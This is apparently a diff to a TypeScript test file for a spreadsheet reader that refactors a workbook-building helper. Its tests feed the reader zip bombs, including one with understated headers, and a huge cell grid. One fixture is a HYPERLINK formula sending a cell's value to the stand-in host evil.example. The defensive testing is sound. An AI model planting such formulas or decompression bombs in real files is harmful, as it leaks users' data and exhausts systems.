@@ -1,7 +1,6 @@
 import { monitorEventLoopDelay } from 'node:perf_hooks';
-import { buffer } from 'node:stream/consumers';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { ZipFile } from 'yazl';
+import { main, workbook } from '../../../tests/support/workbook.ts';
 import { openSpreadsheets, type Spreadsheets } from './spreadsheets.ts';
 
 let spreadsheets: Spreadsheets;
@@ -11,23 +10,6 @@ beforeAll(async () => {
   await spreadsheets.read(await workbook('<row r="1"><c r="A1"><v>1</v></c></row>'), 10);
 });
 afterAll(() => spreadsheets.close());
-
-const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
-const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-
-/** A workbook with one sheet of these rows, and further parts of the archive. */
-async function workbook(rows: string, parts: Record<string, string | Buffer> = {}): Promise<Buffer> {
-  const zip = new ZipFile();
-  const all: Record<string, string | Buffer> = {
-    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
-    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData>${rows}</sheetData></worksheet>`,
-    ...parts,
-  };
-  for (const [name, content] of Object.entries(all)) zip.addBuffer(Buffer.from(content), name);
-  zip.end();
-  return buffer(zip.outputStream);
-}
 
 /** The archive, whose directory and headers say that a part is small. */
 function understating(archive: Buffer, size: number): Buffer {
@@ -40,10 +22,10 @@ function understating(archive: Buffer, size: number): Buffer {
 
 const zeros = 60_000_000;
 test.each([
-  ['a zip bomb', () => workbook('', { 'xl/styles.xml': Buffer.alloc(zeros) })],
+  ['a zip bomb', () => workbook('', { parts: { 'xl/styles.xml': Buffer.alloc(zeros) } })],
   [
     'a zip bomb that says it is small',
-    async () => understating(await workbook('', { 'xl/a.xml': Buffer.alloc(zeros) }), zeros),
+    async () => understating(await workbook('', { parts: { 'xl/a.xml': Buffer.alloc(zeros) } }), zeros),
   ],
   ['ten million empty cells', () => workbook(`<row r="1">${'<c/>'.repeat(10_000_000)}</row>`)],
   ['a cell in the last row and column', () => workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')],
@@ -63,11 +45,11 @@ test.each([
 });
 
 test('a formula counts with its stored value, and a link to another file is not followed [7.3]', async () => {
-  const external = {
+  const parts = {
     'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${main}"><externalBook/></externalLink>`,
   };
   const rows =
     '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/"&amp;B1,"klick")</f><v>klick</v></c>' +
     '<c r="B1"><f>[1]Tabelle!A1</f><v>7</v></c><c r="C1" t="inlineStr"><is><t>=1+1</t></is></c></row>';
-  expect(await spreadsheets.read(await workbook(rows, external), 10)).toEqual([['klick', '7', '=1+1']]);
+  expect(await spreadsheets.read(await workbook(rows, { parts }), 10)).toEqual([['klick', '7', '=1+1']]);
 });
